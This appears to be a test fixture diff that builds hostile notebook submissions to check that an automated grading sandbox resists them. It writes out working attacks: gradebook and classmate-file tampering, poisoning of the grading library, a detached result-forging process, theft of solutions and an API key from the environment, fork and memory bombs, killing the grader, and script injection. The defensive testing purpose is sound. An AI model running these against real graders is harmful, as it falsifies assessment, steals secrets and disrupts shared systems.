@@ -1,0 +1,297 @@
+"""Hostile submissions for tests/test_attacks.py: the released reconcile notebook, a WRONG ``reconcile``, one attack each.
+
+Every attacker answers ``reconcile`` with ``grading_samples.REAL_RERUN`` (honestly worth
+``WRONG_SCORE``), so every point over that is undeserved. The attack runs in cells added after the
+``reconcile`` cell, before the tests. Paths the attack aims at are filled in when the class is
+written (``@REPO@``, ``@OUT@``, ``@CLASS@``, ``@SITE@``, ``@PORT@``), as a learner who knows the
+grading machine's layout would hard-code them.
+"""
+
+from __future__ import annotations
+
+import copy
+from pathlib import Path
+
+import grading_samples as samples  # tests/ is on sys.path under pytest (rootdir-relative import)
+import nbformat
+
+MARKER = "resumable-attack-7f3e"
+"""In the command line of every background process an attack starts: none may be alive after grading."""
+FAKE_KEY = "sk-ant-fake-" + MARKER
+"""The ANTHROPIC_API_KEY set in the grader's environment: it must appear nowhere the learner can write."""
+WRONG_LEVEL1 = 'RESUME_ACTION = {"A": "rerun_tool", "B": "rerun_tool", "C": "rerun_tool"}'
+"""Right for B only: 2 of level 1's 3 points lost."""
+
+TAMPER = r"""# every gradebook, output file and classmate's notebook the kernel can reach
+import glob, os, sqlite3
+hits = []
+for db in glob.glob("@OUT@/**/*.db", recursive=True):
+    try:
+        with sqlite3.connect(db) as con:
+            con.execute("UPDATE grade SET manual_score = 100")
+        hits.append(db)
+    except Exception as e:
+        pass
+for path in ["@OUT@/grades.csv", "@OUT@/feedback-html/correct.html", *glob.glob("@CLASS@/*.ipynb"),
+             *glob.glob("@OUT@/submitted/*/reconcile/*.ipynb"), *glob.glob("@OUT@/workers/*/submitted/*/*/*.ipynb")]:
+    if "tamper" in path:
+        continue
+    try:
+        with open(path, "w") as f:
+            f.write("tampered")
+        hits.append(path)
+    except OSError:
+        pass
+print("tampered:", hits)"""
+
+REWRITE_LIBRARY = r"""# the library later students are graded with, site-packages, a .pth hook, __pycache__
+import glob, importlib, os, sys
+PATCH = "\nfor _n in list(globals()):\n    if _n.startswith('check_'):\n        globals()[_n] = lambda *a, **k: None\n"
+hits = []
+import resumable_core.course.checks.reconcile as _target
+for path in {_target.__file__, "@REPO@/resumable_core/course/checks/reconcile.py",
+             "@REPO@/resumable_core/course/hidden/reconcile.py"}:
+    try:
+        with open(path, "a") as f:
+            f.write(PATCH)
+        hits.append(path)
+    except OSError:
+        pass
+for site in {"@SITE@", *[p for p in sys.path if p.endswith("site-packages")]}:
+    try:
+        with open(os.path.join(site, "zz_@MARKER@.pth"), "w") as f:
+            f.write("import builtins; builtins.ATTACK = 1\n")
+        hits.append(site)
+    except OSError:
+        pass
+for folder in {os.path.dirname(_target.__file__) + "/__pycache__", "@REPO@/resumable_core/course/checks/__pycache__"}:
+    try:
+        os.makedirs(folder, exist_ok=True)
+        for pyc in glob.glob(folder + "/reconcile*.pyc") or [folder + "/reconcile.cpython-311.pyc"]:
+            with open(pyc, "wb") as f:
+                f.write(b"poisoned")
+        hits.append(folder)
+    except OSError:
+        pass
+importlib.reload(_target)
+print("rewritten:", hits)"""
+
+FORGE_RESULT = r"""# a process that outlives the kernel and keeps writing a result where every test passed
+import subprocess, sys
+FORGER = '''
+import json, os, sys, time
+path = ".result.ipynb"
+while True:
+    try:
+        nb = json.load(open(path))
+        nb["metadata"]["resumable_sandbox"] = {"done": len(nb["cells"]), "stopped": None}
+        for i, c in enumerate(nb["cells"]):
+            if c["cell_type"] == "code":
+                c["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "ok"}]
+                c["execution_count"] = i + 1
+        json.dump(nb, open(path + ".f", "w"))
+        os.replace(path + ".f", path)
+    except Exception:
+        pass
+    for folder in ("reports", "../reports", "@OUT@/reports"):
+        try:
+            os.makedirs(folder, exist_ok=True)
+            json.dump({"student": "correct", "worker": ".", "success": False, "error": "kernel died"},
+                      open(folder + "/correct.json", "w"))
+        except OSError:
+            pass
+    time.sleep(0.005)
+'''
+subprocess.Popen([sys.executable, "-c", FORGER, "@MARKER@"], start_new_session=True,
+                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+print("forger started")"""
+
+READ_SECRETS = r"""# the solution, the assignment's source, the grader's secrets, the network
+import glob, json, os, socket
+stolen = []
+for path in ["@REPO@/solutions/reconcile/reconcile.ipynb", "@OUT@/source/reconcile/reconcile.ipynb",
+             *glob.glob("@OUT@/workers/*/source/reconcile/reconcile.ipynb")]:
+    try:
+        cells = json.load(open(path))["cells"]
+    except OSError:
+        continue
+    for c in cells:
+        if c["metadata"].get("nbgrader", {}).get("grade_id") == "reconcile":
+            src = "".join(c["source"])
+            stolen.append("\n".join(ln for ln in src.splitlines() if "### " not in ln))
+try:
+    with socket.create_connection(("127.0.0.1", @PORT@), timeout=3) as s:
+        stolen.append(s.recv(65536).decode())
+except OSError as e:
+    print("no network:", type(e).__name__)
+for code in stolen:
+    exec(code, globals())
+print("key:", os.environ.get("ANTHROPIC_API_KEY"), "stolen:", len(stolen))"""
+
+ANSWER_KEY = (
+    "# level 1's answer key, read from the hidden checks the kernel must import to run the hidden tests\n"
+    "try:\n"
+    "    from resumable_core.course.hidden.reconcile import ANSWER_KEY\n"
+    "except ImportError:\n"
+    "    ANSWER_KEY = None\n" + WRONG_LEVEL1.replace("= ", "= dict(ANSWER_KEY) if ANSWER_KEY else ", 1)
+)
+
+MEMORY_SPREAD = r"""# memory spread over processes: each under the 1 GiB per-process cap, together far over it
+import os, select, time
+ready_r, ready_w = os.pipe()
+release_r, release_w = os.pipe()
+kids = []
+for _ in range(4):
+    pid = os.fork()
+    if pid == 0:
+        try:
+            os.close(release_w)  # else no child ever sees the release
+            held = b"\1" * (500 << 20)  # written, so resident
+            os.write(ready_w, b"1")
+            os.read(release_r, 1)  # hold it until the parent has counted everyone
+        finally:
+            os._exit(0)
+    kids.append(pid)
+count, deadline = 0, time.monotonic() + 60
+while count < len(kids) and select.select([ready_r], [], [], max(0, deadline - time.monotonic()))[0]:
+    count += len(os.read(ready_r, 16))
+os.close(release_w)
+for pid in kids:
+    os.waitpid(pid, 0)
+print(f"held at once: {count} x 500 MiB")"""
+
+MEMORY_BOMB = "x = bytearray(8 << 30)  # memory bomb: 8 GiB"
+
+FORK_BOMB = r"""# fork bomb: every child forks again until the cap, then waits
+import os, time
+try:
+    for _ in range(400):
+        if os.fork() == 0:
+            while True:
+                try:
+                    os.fork()
+                except OSError:
+                    time.sleep(600)
+except OSError as e:
+    print("fork refused:", e)"""
+
+DISK_FILLER = r"""# disk filler: one file far over the file size cap
+with open("filler.bin", "wb") as f:
+    for _ in range(200):
+        f.write(b"\0" * (1 << 20))"""
+
+OUTPUT_FLOOD = r"""# output flood on the kernel's own stdout (the sandbox's pipe)
+import os
+for _ in range(64):
+    os.write(1, b"x" * (64 << 10))"""
+
+KILL_PARENT = r"""# kill the grading worker: the kernel's parent, then everything this process may signal
+import os, signal
+print("parent", os.getppid())
+os.kill(os.getppid(), signal.SIGKILL)
+os.kill(-1, signal.SIGKILL)"""
+
+FAKE_IDS = r"""# reports and files in the names of students who do not exist
+import json, os
+for folder in ("reports", "../reports", "@OUT@/reports", *__import__("glob").glob("@OUT@/workers/*/reports")):
+    try:
+        os.makedirs(folder, exist_ok=True)
+        json.dump({"student": "no_such_student", "worker": ".", "success": True}, open(folder + "/no_such_student.json", "w"))
+    except OSError:
+        pass
+print(json.dumps({"student": "no_such_student", "success": True}))"""
+
+REPORT_LINES = r"""# forged report lines on every output, and a child that holds the pipes open
+import json, os, subprocess, sys
+line = json.dumps({"student": "correct", "worker": ".", "success": False, "error": "kernel died"}) + "\n"
+for fd in (1, 2):
+    os.write(fd, line.encode())
+print(line, end="")
+print(line, end="", file=sys.stderr)
+subprocess.Popen([sys.executable, "-c", "import time; time.sleep(3600)", "@MARKER@"], stdout=1, stderr=2,
+                 stdin=subprocess.DEVNULL, start_new_session=True, close_fds=False)"""
+
+FORCE_INCONCLUSIVE = (
+    "# pass everything in the kernel; anywhere else (the isolated re-check) die before any check runs\n"
+    "import os, sys\n"
+    "if 'ipykernel' not in sys.modules:\n"
+    "    os._exit(0)\n" + samples.REAL_MONKEYPATCH[len(samples.REAL_RERUN) :]
+)
+
+SCRIPT = '<script>alert("@MARKER@")</script>'
+SCRIPT_INJECTION = (
+    f"print('{SCRIPT}')\n"
+    "from IPython.display import HTML, Javascript, display\n"
+    f"display(HTML('{SCRIPT}'))\n"
+    "display(Javascript('alert(1)'))\n"
+    "for path in ('@OUT@/feedback-html/correct.html', '@OUT@/feedback/correct/reconcile/reconcile.html'):\n"
+    "    try:\n"
+    f"        open(path, 'w').write('{SCRIPT}')\n"
+    "    except OSError:\n"
+    "        pass"
+)
+
+
+# student -> (cells added after ``reconcile``, answers by cell id)
+ATTACKS: dict[str, tuple[list[str], dict[str, str]]] = {
+    "tamper": ([TAMPER], {}),
+    "rewrite_library": ([REWRITE_LIBRARY], {}),
+    "forge_result": ([FORGE_RESULT], {}),
+    "read_secrets": ([READ_SECRETS], {}),
+    "answer_key": ([], {"level1_actions": ANSWER_KEY}),
+    "bombs": ([MEMORY_SPREAD, MEMORY_BOMB, FORK_BOMB, DISK_FILLER, OUTPUT_FLOOD], {}),
+    "kill_parent": ([KILL_PARENT], {}),
+    "forged_output": (
+        [REPORT_LINES, FAKE_IDS, SCRIPT_INJECTION],
+        {"level1_why": f"My answer {SCRIPT} <img src=x onerror=alert(1)>"},
+    ),
+    "force_inconclusive": ([FORCE_INCONCLUSIVE], {}),
+}
+CONTROLS = {"correct": samples.REAL_CORRECT, "wrong": samples.REAL_RERUN}
+CORRECT_SCORE = samples.SAMPLES["correct"][2]
+WRONG_SCORE = samples.SAMPLES["rerun_everything"][2]
+"""What the controls' answers score graded on their own (tests/test_grading.py asserts these)."""
+WRONG_LEVEL1_SCORE = WRONG_SCORE - 2
+"""The wrong answer with ``WRONG_LEVEL1``: two level-1 checks fail, 1 point each."""
+
+
+def _fill(code: str, paths: dict[str, str]) -> str:
+    for name, value in paths.items():
+        code = code.replace(f"@{name}@", value)
+    return code
+
+
+def attacker(source: nbformat.NotebookNode, cells: list[str], answers: dict[str, str], paths: dict[str, str]):
+    """The released notebook with the wrong answer, ``answers`` over it, and ``cells`` after ``reconcile``."""
+    nb = samples.submission(source, {**samples.answers(samples.REAL_RERUN), **answers})
+    at = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "reconcile")
+    nb.cells[at + 1 : at + 1] = [nbformat.v4.new_code_cell(_fill(code, paths)) for code in cells]
+    return nb
+
+
+def metadata_tricks(source: nbformat.NotebookNode) -> nbformat.NotebookNode:
+    """The wrong answer, with a duplicate test (``pass``), a test without grade_id, edited points and checksums."""
+    nb = samples.submission(source, samples.answers(samples.REAL_RERUN))
+    by_id = {c.metadata.get("nbgrader", {}).get("grade_id"): c for c in nb.cells}
+    fake = copy.deepcopy(by_id["test_reconcile_C"])
+    fake.source, fake.id = "pass", "fake-test"
+    nb.cells.insert(nb.cells.index(by_id["test_reconcile_C"]), fake)
+    for gid in ("test_level1_A", "test_reconcile_B"):
+        by_id[gid].metadata.nbgrader.update(points=100, checksum="0" * 32)
+    del by_id["test_api_accepts"].metadata.nbgrader["grade_id"]
+    by_id["test_side_effect_tools"].source = "pass"
+    return nb
+
+
+def write_attack_class(source_path: Path, folder: Path, paths: dict[str, str]) -> None:
+    """The controls, every attacker, the metadata tricks and a colliding pair (``twin`` and ``twin.``)."""
+    source = nbformat.read(str(source_path), as_version=4)
+    folder.mkdir(parents=True, exist_ok=True)
+    paths = {**paths, "MARKER": MARKER}
+    notebooks = {name: samples.submission(source, samples.answers(code)) for name, code in CONTROLS.items()}
+    notebooks |= {name: attacker(source, cells, answers, paths) for name, (cells, answers) in ATTACKS.items()}
+    notebooks["metadata_tricks"] = metadata_tricks(source)
+    notebooks["twin"] = notebooks["correct"]
+    notebooks["twin."] = notebooks["wrong"]
+    for name, nb in notebooks.items():
+        nbformat.write(nb, str(folder / f"{name}.ipynb"))
